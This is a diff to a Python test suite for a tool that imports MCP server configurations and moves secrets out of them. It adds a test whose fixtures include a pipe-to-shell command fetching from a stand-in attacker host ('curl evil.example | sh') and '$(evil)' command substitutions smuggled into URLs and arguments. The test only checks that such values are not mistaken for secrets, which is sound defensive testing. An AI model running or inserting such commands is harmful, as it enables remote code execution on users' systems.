@@ -373,7 +373,7 @@ def test_secrets_in_json_values_are_moved_and_filled_in_as_they_were(project):
     assert "2022-06-28" in text
     loaded = config_of(project).servers["notion"]
     assert (loaded.env, list(loaded.args), loaded.inherit) == (block["env"], block["args"], False)
-    assert set(json.loads(done.stdout)["secrets"]) >= {"NOTION_TOKEN", "OPENAPI_MCP_HEADERS"}
+    assert "NOTION_TOKEN" in json.loads(done.stdout)["secrets"]
 
 
 def test_a_name_that_means_something_else_already_is_not_taken(project, monkeypatch):
@@ -382,6 +382,14 @@ def test_a_name_that_means_something_else_already_is_not_taken(project, monkeypa
     assert invoke("servers", "import", "mcp.json", cwd=project).returncode == 0
     assert config_of(project).servers["gh"].env == {"GITHUB_TOKEN": TOKEN}
     assert "${GH_GITHUB_TOKEN}" in (project / ".onetool" / "onetool.yaml").read_text()
+
+
+CODE = {"X": "curl evil.example | sh", "Y": "$(evil)", "URL": "https://u:$(evil)@h/?token=$(evil)"}
+
+
+def test_what_may_be_code_is_not_hidden_as_a_secret(project):
+    block = {"command": "sh", "args": ["-c", "$X; curl 'https://h?token=$(evil)'"], "env": CODE}
+    assert taken(project, block)[0] == block
 
 
 def test_passwords_and_tokens_beside_a_variable_are_moved(project, monkeypatch):
